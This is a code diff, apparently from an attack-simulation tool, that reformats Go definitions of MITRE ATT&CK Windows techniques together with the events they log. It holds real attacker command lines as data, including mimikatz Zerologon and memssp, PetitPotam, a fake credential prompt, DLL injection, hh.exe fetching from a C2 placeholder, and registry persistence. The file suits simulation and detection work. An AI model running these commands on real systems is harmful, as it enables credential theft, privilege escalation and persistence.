@@ -15,15 +15,18 @@ var windowsInternals = []*Technique{
 		ID: "T1055.001", Name: "Process Injection: Dynamic-link Library Injection", Tactic: "privilege-escalation", Effect: "the attacker's library runs within another program",
 		Takes: quick, Success: 0.92,
 		script: &script{at: onWindows, variants: []variant{
-			by("mavinject", cmd(mavinject, `mavinject.exe 4172 /INJECTRUNNING C:\Users\Public\a.dll`), inject(world.Notepad, "LoadLibraryW"), load(`C:\Users\Public\a.dll`)),
-			by("into notepad", cmd(world.Notepad, `notepad.exe`), open(world.Notepad, "0x1fffff", injectionTrace), inject(world.Notepad, "LoadLibraryA"), load(`C:\Users\{user}\AppData\Local\Temp\m.dll`)),
+			by("mavinject", cmd(mavinject, `mavinject.exe 4172 /INJECTRUNNING C:\Users\Public\a.dll`),
+				inject(world.Notepad, "LoadLibraryW"), load(`C:\Users\Public\a.dll`)),
+			by("into notepad", cmd(world.Notepad, `notepad.exe`), open(world.Notepad, "0x1fffff", injectionTrace),
+				inject(world.Notepad, "LoadLibraryA"), load(`C:\Users\{user}\AppData\Local\Temp\m.dll`)),
 		}},
 	},
 	{
 		ID: "T1055.002", Name: "Process Injection: Portable Executable Injection", Tactic: "privilege-escalation", Effect: "the attacker's program runs within another one",
 		Takes: quick, Success: 0.9,
 		script: &script{at: onWindows, variants: []variant{
-			by("Invoke-ReflectivePEInjection", block(`Invoke-ReflectivePEInjection -PEBytes $b -ProcName notepad`), open(world.Notepad, "0x1f3fff", injectionTrace), inject(world.Notepad, "")),
+			by("Invoke-ReflectivePEInjection", block(`Invoke-ReflectivePEInjection -PEBytes $b -ProcName notepad`),
+				open(world.Notepad, "0x1f3fff", injectionTrace), inject(world.Notepad, "")),
 			by("own code", open(world.Explorer, "0x147a", injectionTrace), inject(world.Explorer, "")),
 		}},
 	},
@@ -39,7 +42,8 @@ var windowsInternals = []*Technique{
 		ID: "T1055.004", Name: "Process Injection: Asynchronous Procedure Call", Tactic: "privilege-escalation", Effect: "another program runs the attacker's code when it waits",
 		Takes: quick, Success: 0.9,
 		script: &script{at: onWindows, variants: []variant{
-			by("early bird", cmd(world.Svchost, `C:\Windows\System32\svchost.exe`), open(world.Svchost, "0x1fffff", injectionTrace)),
+			by("early bird", cmd(world.Svchost, `C:\Windows\System32\svchost.exe`),
+				open(world.Svchost, "0x1fffff", injectionTrace)),
 			by("explorer", open(world.Explorer, "0x1028", injectionTrace)),
 		}},
 	},
@@ -47,7 +51,8 @@ var windowsInternals = []*Technique{
 		ID: "T1056.002", Name: "Input Capture: GUI Input Capture", Tactic: "credential-access", Effect: "the user has typed a password into the attacker's window",
 		Takes: sim.LogNormal(5*time.Minute, 0.8), Success: 0.55,
 		script: &script{at: onWindows, then: stealOwner, variants: []variant{
-			by("Get-Credential", powershell(`$cred = $host.UI.PromptForCredential("Windows Security Update", "", [Environment]::UserName, [Environment]::UserDomainName); $cred.GetNetworkCredential().Password`)),
+			by("Get-Credential",
+				powershell(`$cred = $host.UI.PromptForCredential("Windows Security Update", "", [Environment]::UserName, [Environment]::UserDomainName); $cred.GetNetworkCredential().Password`)),
 			by("credential dialog", load(`C:\Windows\System32\credui.dll`), load(`C:\Windows\System32\wincredui.dll`)),
 		}},
 	},
@@ -79,8 +84,10 @@ var windowsInternals = []*Technique{
 		ID: "T1187", Name: "Forced Authentication", Tactic: "credential-access", Effect: "a server's account has logged on to the attacker",
 		Takes: sim.LogNormal(3*time.Minute, 0.8), Success: 0.7,
 		script: &script{at: onDomain, variants: []variant{
-			by("PetitPotam", cmd(world.Dropped(`C:\Users\Public\PetitPotam.exe`, &plain), `PetitPotam.exe {host} {dc}`), remoteFile(`\\*\IPC$`, "lsarpc")),
-			by("SpoolSample", cmd(world.Dropped(`C:\Users\Public\SpoolSample.exe`, &plain), `SpoolSample.exe {dc} {host}`), remoteFile(`\\*\IPC$`, "spoolss")),
+			by("PetitPotam", cmd(world.Dropped(`C:\Users\Public\PetitPotam.exe`, &plain), `PetitPotam.exe {host} {dc}`),
+				remoteFile(`\\*\IPC$`, "lsarpc")),
+			by("SpoolSample", cmd(world.Dropped(`C:\Users\Public\SpoolSample.exe`, &plain), `SpoolSample.exe {dc} {host}`),
+				remoteFile(`\\*\IPC$`, "spoolss")),
 		}},
 	},
 	{
@@ -95,8 +102,11 @@ var windowsInternals = []*Technique{
 		ID: "T1210", Name: "Exploitation of Remote Services", Tactic: "lateral-movement", Effect: "a service of the controller ran the attacker's code",
 		Takes: sim.LogNormal(4*time.Minute, 0.8), Success: 0.4,
 		script: &script{at: onDomain, variants: []variant{
-			by("Zerologon", cmd(mimikatz, `mimikatz.exe "lsadump::zerologon /target:{dc} /account:DC001$ /exploit" exit`), atController("Security 4742", "PasswordLastSet", "3/3/2026 9:00:00 AM", "SubjectUserName", "ANONYMOUS LOGON", "SubjectUserSid", "S-1-5-7", "SubjectDomainName", "NT AUTHORITY")),
-			by("sAMAccountName spoofing", atController("Security 4741", "TargetUserName", "SAMTHEADMIN-81$", "SamAccountName", "SAMTHEADMIN-81$"), atController("Security 4781", "OldTargetUserName", "SAMTHEADMIN-81$", "NewTargetUserName", "DC001")),
+			by("Zerologon", cmd(mimikatz, `mimikatz.exe "lsadump::zerologon /target:{dc} /account:DC001$ /exploit" exit`),
+				atController("Security 4742", "PasswordLastSet", "3/3/2026 9:00:00 AM", "SubjectUserName", "ANONYMOUS LOGON",
+					"SubjectUserSid", "S-1-5-7", "SubjectDomainName", "NT AUTHORITY")),
+			by("sAMAccountName spoofing", atController("Security 4741", "TargetUserName", "SAMTHEADMIN-81$", "SamAccountName",
+				"SAMTHEADMIN-81$"), atController("Security 4781", "OldTargetUserName", "SAMTHEADMIN-81$", "NewTargetUserName", "DC001")),
 			by("print spooler", remoteFile(`\\*\IPC$`, "spoolss"), asSystem(world.Spoolsv, world.Rundll32, `rundll32.exe`)),
 		}},
 	},
@@ -110,21 +120,25 @@ var windowsInternals = []*Technique{
 	{
 		ID: "T1218.001", Name: "System Binary Proxy Execution: Compiled HTML File", Tactic: "stealth", Effect: "a help file ran the attacker's program", Takes: quick, Success: 0.95,
 		script: &script{at: onWindows, variants: []variant{
-			by("from the web", cmd(helpViewer, `hh.exe http://{c2}/a.chm`), child(world.Cmd, `cmd.exe /c C:\Users\Public\agent.exe`)),
-			by("from a folder", cmd(helpViewer, `"C:\Windows\hh.exe" C:\Users\{user}\Downloads\guide.chm`), child(world.PowerShell, `powershell.exe -w hidden -nop -c C:\Users\Public\a.ps1`)),
+			by("from the web", cmd(helpViewer, `hh.exe http://{c2}/a.chm`),
+				child(world.Cmd, `cmd.exe /c C:\Users\Public\agent.exe`)),
+			by("from a folder", cmd(helpViewer, `"C:\Windows\hh.exe" C:\Users\{user}\Downloads\guide.chm`),
+				child(world.PowerShell, `powershell.exe -w hidden -nop -c C:\Users\Public\a.ps1`)),
 		}},
 	},
 	{
 		ID: "T1218.002", Name: "System Binary Proxy Execution: Control Panel", Tactic: "stealth", Effect: "the control panel ran the attacker's library", Takes: quick, Success: 0.95,
 		script: &script{at: onWindows, variants: []variant{
-			by("control", cmd(world.InSystem32("control.exe", "CONTROL.EXE", "Windows Control Panel"), `control.exe C:\Users\Public\item.cpl`), child(world.Rundll32, `"C:\Windows\system32\rundll32.exe" Shell32.dll,Control_RunDLL C:\Users\Public\item.cpl`)),
+			by("control", cmd(world.InSystem32("control.exe", "CONTROL.EXE", "Windows Control Panel"),
+				`control.exe C:\Users\Public\item.cpl`), child(world.Rundll32, `"C:\Windows\system32\rundll32.exe" Shell32.dll,Control_RunDLL C:\Users\Public\item.cpl`)),
 			by("rundll32", cmd(world.Rundll32, `rundll32.exe shell32.dll,Control_RunDLL C:\Users\Public\item.cpl`)),
 		}},
 	},
 	{
 		ID: "T1218.008", Name: "System Binary Proxy Execution: Odbcconf", Tactic: "stealth", Effect: "a tool of Windows ran the attacker's library", Takes: quick, Success: 0.95,
 		script: &script{at: onWindows, variants: []variant{
-			by("one action", cmd(odbcconf, `odbcconf.exe /S /A {REGSVR "C:\Users\Public\a.dll"}`), load(`C:\Users\Public\a.dll`)),
+			by("one action", cmd(odbcconf, `odbcconf.exe /S /A {REGSVR "C:\Users\Public\a.dll"}`),
+				load(`C:\Users\Public\a.dll`)),
 			by("response file", cmd(odbcconf, `odbcconf.exe -f C:\Users\Public\a.rsp`)),
 		}},
 	},
@@ -132,9 +146,12 @@ var windowsInternals = []*Technique{
 		ID: "T1484.001", Name: "Domain or Tenant Policy Modification: Group Policy Modification", Tactic: "privilege-escalation", Effect: "the domain's policy does what the attacker wants",
 		Takes: sim.LogNormal(3*time.Minute, 0.7), Success: 0.85, ready: needDomainAdmin,
 		script: &script{at: onDomain, variants: []variant{
-			by("task by policy", policyChanged("gPCMachineExtensionNames", "[{00000000-0000-0000-0000-000000000000}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}][{AADCED64-746C-4633-A97C-D61349046527}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]"),
-				remoteFile(`\\*\SYSVOL`, `{domain}\Policies\{31B2F340-016D-11D2-945F-00C04FB984F9}\Machine\Preferences\ScheduledTasks\ScheduledTasks.xml`)),
-			by("linked elsewhere", policyChanged("gPLink", "[LDAP://cn={31B2F340-016D-11D2-945F-00C04FB984F9},cn=policies,cn=system;0]")),
+			by("task by policy", policyChanged("gPCMachineExtensionNames",
+				"[{00000000-0000-0000-0000-000000000000}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}][{AADCED64-746C-4633-A97C-D61349046527}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]"),
+				remoteFile(`\\*\SYSVOL`,
+					`{domain}\Policies\{31B2F340-016D-11D2-945F-00C04FB984F9}\Machine\Preferences\ScheduledTasks\ScheduledTasks.xml`)),
+			by("linked elsewhere",
+				policyChanged("gPLink", "[LDAP://cn={31B2F340-016D-11D2-945F-00C04FB984F9},cn=policies,cn=system;0]")),
 			by("version raised", policyChanged("versionNumber", "65538")),
 		}},
 	},
@@ -142,8 +159,11 @@ var windowsInternals = []*Technique{
 		ID: "T1505.001", Name: "Server Software Component: SQL Stored Procedures", Tactic: "persistence", Effect: "the database runs the attacker's commands", Achieves: "persist",
 		Takes: quick, Success: 0.9,
 		script: &script{at: onElevated, then: settle(`C:\Users\Public\agent.exe`), variants: []variant{
-			by("xp_cmdshell", log("Application 15457", "Data", "xp_cmdshell, 0, 1"), log("Application 33205", "Data", "audit_schema_version:1, action_id:EX, succeeded:true, object_name:xp_cmdshell, statement:EXEC master..xp_cmdshell 'whoami'"), asSystem(world.Sqlservr, world.Cmd, `"C:\Windows\system32\cmd.exe" /c whoami`)),
-			by("startup procedure", log("Application 33205", "Data", "audit_schema_version:1, action_id:EX, succeeded:true, object_name:sp_procoption, statement:EXEC sp_procoption 'evil', 'startup', 'on'")),
+			by("xp_cmdshell", log("Application 15457", "Data", "xp_cmdshell, 0, 1"),
+				log("Application 33205", "Data",
+					"audit_schema_version:1, action_id:EX, succeeded:true, object_name:xp_cmdshell, statement:EXEC master..xp_cmdshell 'whoami'"), asSystem(world.Sqlservr, world.Cmd, `"C:\Windows\system32\cmd.exe" /c whoami`)),
+			by("startup procedure", log("Application 33205", "Data",
+				"audit_schema_version:1, action_id:EX, succeeded:true, object_name:sp_procoption, statement:EXEC sp_procoption 'evil', 'startup', 'on'")),
 			by("CLR assembly", log("Application 15457", "Data", "clr enabled, 0, 1")),
 		}},
 	},
@@ -151,8 +171,10 @@ var windowsInternals = []*Technique{
 		ID: "T1505.004", Name: "Server Software Component: IIS Components", Tactic: "persistence", Effect: "the web server runs the attacker's module", Achieves: "persist",
 		Takes: quick, Success: 0.9,
 		script: &script{at: onElevated, then: settle(`C:\Windows\System32\inetsrv\m.dll`), variants: []variant{
-			by("appcmd", cmd(world.InSystem32(`inetsrv\appcmd.exe`, "appcmd.exe", "Application Server Command Line Admin Tool"), `C:\Windows\System32\inetsrv\appcmd.exe install module /name:DefaultDocumentModule_Atomic /image:%windir%\system32\inetsrv\m.dll`)),
-			by("New-WebGlobalModule", powershell(`New-WebGlobalModule -Name DefaultDocumentModule_Atomic -Image %windir%\system32\inetsrv\m.dll`)),
+			by("appcmd", cmd(world.InSystem32(`inetsrv\appcmd.exe`, "appcmd.exe", "Application Server Command Line Admin Tool"),
+				`C:\Windows\System32\inetsrv\appcmd.exe install module /name:DefaultDocumentModule_Atomic /image:%windir%\system32\inetsrv\m.dll`)),
+			by("New-WebGlobalModule",
+				powershell(`New-WebGlobalModule -Name DefaultDocumentModule_Atomic -Image %windir%\system32\inetsrv\m.dll`)),
 		}},
 	},
 	{
@@ -160,7 +182,8 @@ var windowsInternals = []*Technique{
 		script: &script{at: onWindows, variants: []variant{
 			by("registry", cmd(world.Reg, `reg query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall /s /v DisplayName`), cmd(world.Reg, `reg query "HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Internet Explorer" /v svcVersion`)),
 			by("wmic", cmd(world.Wmic, `wmic product get name,version`)),
-			by("Get-ItemProperty", block(`Get-ItemProperty HKLM:\Software\Microsoft\Windows\CurrentVersion\Uninstall\* | Select-Object DisplayName, DisplayVersion`)),
+			by("Get-ItemProperty",
+				block(`Get-ItemProperty HKLM:\Software\Microsoft\Windows\CurrentVersion\Uninstall\* | Select-Object DisplayName, DisplayVersion`)),
 		}},
 	},
 	{
@@ -168,7 +191,8 @@ var windowsInternals = []*Technique{
 		Takes: quick, Success: 0.95,
 		script: &script{at: onElevated, then: settle(`C:\Users\Public\agent.exe`), variants: []variant{
 			by("assoc", cmd(world.Cmd, `cmd.exe /c assoc .hta=txtfile`)),
-			by("registry", registry(`HKLM\SOFTWARE\Classes\txtfile\shell\open\command\(Default)`, `C:\Users\Public\agent.exe %1`)),
+			by("registry", registry(`HKLM\SOFTWARE\Classes\txtfile\shell\open\command\(Default)`,
+				`C:\Users\Public\agent.exe %1`)),
 		}},
 	},
 	{
@@ -183,7 +207,8 @@ var windowsInternals = []*Technique{
 		ID: "T1546.007", Name: "Event Triggered Execution: Netsh Helper DLL", Tactic: "persistence", Effect: "netsh loads the attacker's library", Achieves: "persist",
 		Takes: quick, Success: 0.95,
 		script: &script{at: onElevated, then: settle(`C:\Users\Public\n.dll`), variants: []variant{
-			by("add helper", cmd(world.Netsh, `netsh.exe add helper C:\Users\Public\n.dll`), registry(`HKLM\SOFTWARE\Microsoft\NetSh\n`, `C:\Users\Public\n.dll`), load(`C:\Users\Public\n.dll`)),
+			by("add helper", cmd(world.Netsh, `netsh.exe add helper C:\Users\Public\n.dll`),
+				registry(`HKLM\SOFTWARE\Microsoft\NetSh\n`, `C:\Users\Public\n.dll`), load(`C:\Users\Public\n.dll`)),
 			by("registry", registry(`HKLM\SOFTWARE\Microsoft\NetSh\helper`, `C:\Users\Public\n.dll`)),
 		}},
 	},
@@ -199,7 +224,8 @@ var windowsInternals = []*Technique{
 		ID: "T1546.011", Name: "Event Triggered Execution: Application Shimming", Tactic: "persistence", Effect: "a program is patched whenever it starts", Achieves: "persist",
 		Takes: quick, Success: 0.92,
 		script: &script{at: onElevated, then: settle(`C:\Windows\apppatch\Custom\s.sdb`), variants: []variant{
-			by("sdbinst", cmd(world.InSystem32("sdbinst.exe", "sdbinst.exe", "Application Compatibility Database Installer"), `sdbinst.exe C:\Users\Public\s.sdb`), file(`C:\Windows\apppatch\Custom\Custom64\{deb7f008-681e-4a4a-8aae-cc833e8216ce}.sdb`), registry(`HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\AppCompatFlags\Custom\notepad.exe\{deb7f008-681e-4a4a-8aae-cc833e8216ce}.sdb`, "Binary Data")),
+			by("sdbinst", cmd(world.InSystem32("sdbinst.exe", "sdbinst.exe", "Application Compatibility Database Installer"),
+				`sdbinst.exe C:\Users\Public\s.sdb`), file(`C:\Windows\apppatch\Custom\Custom64\{deb7f008-681e-4a4a-8aae-cc833e8216ce}.sdb`), registry(`HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\AppCompatFlags\Custom\notepad.exe\{deb7f008-681e-4a4a-8aae-cc833e8216ce}.sdb`, "Binary Data")),
 			by("registry", registry(`HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\AppCompatFlags\InstalledSDB\{deb7f008-681e-4a4a-8aae-cc833e8216ce}\DatabasePath`, `C:\Windows\apppatch\Custom\s.sdb`)),
 		}},
 	},
@@ -207,7 +233,8 @@ var windowsInternals = []*Technique{
 		ID: "T1546.013", Name: "Event Triggered Execution: PowerShell Profile", Tactic: "persistence", Effect: "every PowerShell runs the attacker's script", Achieves: "persist",
 		Takes: quick, Success: 0.95,
 		script: &script{at: onWindows, then: settle(`C:\Users\Public\p.ps1`), variants: []variant{
-			by("Add-Content", block(`Add-Content $profile -Value "Start-Process C:\Users\Public\agent.exe"`), file(`C:\Users\{user}\Documents\WindowsPowerShell\Microsoft.PowerShell_profile.ps1`)),
+			by("Add-Content", block(`Add-Content $profile -Value "Start-Process C:\Users\Public\agent.exe"`),
+				file(`C:\Users\{user}\Documents\WindowsPowerShell\Microsoft.PowerShell_profile.ps1`)),
 			by("all users", file(`C:\Windows\System32\WindowsPowerShell\v1.0\profile.ps1`)),
 		}},
 	},
@@ -215,15 +242,18 @@ var windowsInternals = []*Technique{
 		ID: "T1547.005", Name: "Boot or Logon Autostart Execution: Security Support Provider", Tactic: "persistence", Effect: "the security authority loads the attacker's library", Achieves: "persist",
 		Takes: quick, Success: 0.9,
 		script: &script{at: onElevated, then: settle(`C:\Windows\System32\mimilib.dll`), variants: []variant{
-			by("security packages", cmd(world.Reg, `reg add "HKLM\System\CurrentControlSet\Control\Lsa" /v "Security Packages" /d "kerberos msv1_0 mimilib" /t REG_SZ /f`), file(`C:\Windows\System32\mimilib.dll`), log("Security 4622", "SecurityPackageName", `C:\Windows\system32\mimilib.dll : KiwiSSP`)),
-			by("in memory", debugging(mimikatz, `mimikatz.exe "privilege::debug" "misc::memssp" exit`), open(world.Lsass, "0x1038", mimikatzTrace), file(`C:\Windows\System32\mimilsa.log`)),
+			by("security packages",
+				cmd(world.Reg, `reg add "HKLM\System\CurrentControlSet\Control\Lsa" /v "Security Packages" /d "kerberos msv1_0 mimilib" /t REG_SZ /f`), file(`C:\Windows\System32\mimilib.dll`), log("Security 4622", "SecurityPackageName", `C:\Windows\system32\mimilib.dll : KiwiSSP`)),
+			by("in memory", debugging(mimikatz, `mimikatz.exe "privilege::debug" "misc::memssp" exit`),
+				open(world.Lsass, "0x1038", mimikatzTrace), file(`C:\Windows\System32\mimilsa.log`)),
 		}},
 	},
 	{
 		ID: "T1547.009", Name: "Boot or Logon Autostart Execution: Shortcut Modification", Tactic: "persistence", Effect: "a shortcut starts the attacker's program", Achieves: "persist",
 		Takes: quick, Success: 0.95,
 		script: &script{at: onWindows, then: settle(`C:\Users\Public\agent.exe`), variants: []variant{
-			by("startup folder", file(`C:\Users\{user}\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\T1547.009.lnk`)),
+			by("startup folder",
+				file(`C:\Users\{user}\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\T1547.009.lnk`)),
 			by("on the desktop", file(`C:\Users\{user}\Desktop\Chrome.lnk`)),
 		}},
 	},
@@ -232,14 +262,16 @@ var windowsInternals = []*Technique{
 		Takes: quick, Success: 0.92,
 		script: &script{at: onElevated, then: settle(`C:\Windows\System32\mon.dll`), variants: []variant{
 			by("reg add", cmd(world.Reg, `reg add "hklm\system\currentcontrolset\control\print\monitors\ART" /v "Driver" /d "C:\Users\Public\mon.dll" /t REG_SZ`)),
-			by("direct", registry(`HKLM\System\CurrentControlSet\Control\Print\Monitors\Updater\Driver`, `mon.dll`), file(`C:\Windows\System32\mon.dll`)),
+			by("direct", registry(`HKLM\System\CurrentControlSet\Control\Print\Monitors\Updater\Driver`, `mon.dll`),
+				file(`C:\Windows\System32\mon.dll`)),
 		}},
 	},
 	{
 		ID: "T1556.002", Name: "Modify Authentication Process: Password Filter DLL", Tactic: "credential-access", Effect: "new passwords are known to the attacker",
 		Takes: quick, Success: 0.85,
 		script: &script{at: onElevated, then: stealServices, variants: []variant{
-			by("notification packages", cmd(world.Reg, `reg add "HKLM\SYSTEM\CurrentControlSet\Control\Lsa" /v "Notification Packages" /t REG_MULTI_SZ /d "scecli\0filter" /f`), file(`C:\Windows\System32\filter.dll`)),
+			by("notification packages",
+				cmd(world.Reg, `reg add "HKLM\SYSTEM\CurrentControlSet\Control\Lsa" /v "Notification Packages" /t REG_MULTI_SZ /d "scecli\0filter" /f`), file(`C:\Windows\System32\filter.dll`)),
 			by("direct", registry(`HKLM\System\CurrentControlSet\Control\Lsa\Notification Packages`, `scecli filter`)),
 		}},
 	},
@@ -254,8 +286,10 @@ var windowsInternals = []*Technique{
 	{
 		ID: "T1559.001", Name: "Inter-Process Communication: Component Object Model", Tactic: "execution", Effect: "a program was started through a component", Takes: quick, Success: 0.93,
 		script: &script{at: onWindows, variants: []variant{
-			by("xwizard", cmd(world.InSystem32("xwizard.exe", "xwizard.exe", "Extensible Wizards Host Process"), `xwizard.exe RunWizard {00000001-0000-0000-0000-0000FEEDACDC}`)),
-			by("MMC20.Application", block(`[activator]::CreateInstance([type]::GetTypeFromProgID("MMC20.Application")).Document.ActiveView.ExecuteShellCommand("cmd.exe",$null,"/c calc.exe","7")`), under(world.Mmc, world.Cmd, `"C:\Windows\System32\cmd.exe" /c calc.exe`)),
+			by("xwizard", cmd(world.InSystem32("xwizard.exe", "xwizard.exe", "Extensible Wizards Host Process"),
+				`xwizard.exe RunWizard {00000001-0000-0000-0000-0000FEEDACDC}`)),
+			by("MMC20.Application",
+				block(`[activator]::CreateInstance([type]::GetTypeFromProgID("MMC20.Application")).Document.ActiveView.ExecuteShellCommand("cmd.exe",$null,"/c calc.exe","7")`), under(world.Mmc, world.Cmd, `"C:\Windows\System32\cmd.exe" /c calc.exe`)),
 		}},
 	},
 	{
@@ -263,7 +297,8 @@ var windowsInternals = []*Technique{
 		Takes: quick, Success: 0.85,
 		script: &script{at: onWindows, variants: []variant{
 			by("reg add", cmd(world.Reg, `reg.exe add "HKLM\SYSTEM\CurrentControlSet\Services\calcservice" /f /v ImagePath /d "C:\Users\Public\agent.exe"`)),
-			by("failure command", registry(`HKLM\System\CurrentControlSet\Services\Fax\FailureCommand`, `C:\Users\Public\agent.exe`)),
+			by("failure command", registry(`HKLM\System\CurrentControlSet\Services\Fax\FailureCommand`,
+				`C:\Users\Public\agent.exe`)),
 		}},
 	},
 	{
@@ -291,11 +326,14 @@ var shadowController = move{"windows/security 4742 5137 5141", func(a *Attempt, 
 		return world.Refusal{}
 	}
 	by := a.domainAdmin()
-	object := []string{"ObjectClass", "server", "ObjectDN", "CN=" + f.Host.Name + ",CN=Servers,CN=Default-First-Site-Name,CN=Sites,CN=Configuration," + a.text(f, "{dn}")}
+	object := []string{"ObjectClass", "server", "ObjectDN",
+		"CN=" + f.Host.Name + ",CN=Servers,CN=Default-First-Site-Name,CN=Sites,CN=Configuration," + a.text(f, "{dn}")}
 	names := "\r\n\t\tGC/" + f.Host.FQDN + "/" + a.World.Domain + "\r\n\t\tE3514235-4B06-11D1-AB04-00C04FC2DCD2/0b7b/" + a.World.Domain
-	a.World.LogBy(a.Now, a.Actor, dc, by, "Security 4742", "TargetUserName", f.Host.Name+"$", "ServicePrincipalNames", names)
+	a.World.LogBy(a.Now, a.Actor, dc, by, "Security 4742", "TargetUserName", f.Host.Name+"$", "ServicePrincipalNames",
+		names)
 	a.World.LogBy(a.Now, a.Actor, dc, by, "Security 5137", object...)
-	a.World.LogBy(a.Now+time.Second, a.Actor, dc, by, "Security 4662", "AccessMask", "0x100", "Properties", "%%7688\r\n\t\t{9923a32a-3607-11d2-b9be-0000f87a36b2}")
+	a.World.LogBy(a.Now+time.Second, a.Actor, dc, by, "Security 4662", "AccessMask", "0x100", "Properties",
+		"%%7688\r\n\t\t{9923a32a-3607-11d2-b9be-0000f87a36b2}")
 	a.World.LogBy(a.Now+3*time.Second, a.Actor, dc, by, "Security 5141", object...)
 	a.World.LogBy(a.Now+3*time.Second, a.Actor, dc, by, "Security 4742", "TargetUserName", f.Host.Name+"$")
 	return world.Refusal{}
